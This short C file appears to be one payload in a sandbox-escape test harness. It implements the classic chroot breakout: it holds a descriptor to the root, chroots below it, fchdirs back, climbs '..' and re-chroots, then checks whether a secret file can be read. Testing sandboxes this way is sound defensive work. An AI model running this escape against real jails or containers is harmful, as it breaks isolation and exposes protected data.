// The classic way out of a chroot: keep a directory descriptor, chroot below it, climb.
// argv: PATH SECRET
#include "payload.h"

static void attack(int argc, char** argv) {
  const char* path = need(argc, argv, 1);
  const char* secret = need(argc, argv, 2);
  int top = open("/", O_RDONLY | O_DIRECTORY);
  const char* below = scratch_dir();
  if (chroot(below)) blocked(errno);
  if (fchdir(top)) blocked(errno);
  for (int i = 0; i < 64; ++i) {
    if (chdir("..")) break;
  }
  if (chroot(".")) blocked(errno);
  if (path_holds(path, secret) == 1) succeeded("climbed out and read %s", path);
  blocked_because("ENOENT climbed, and arrived at the sandbox's own root");
}
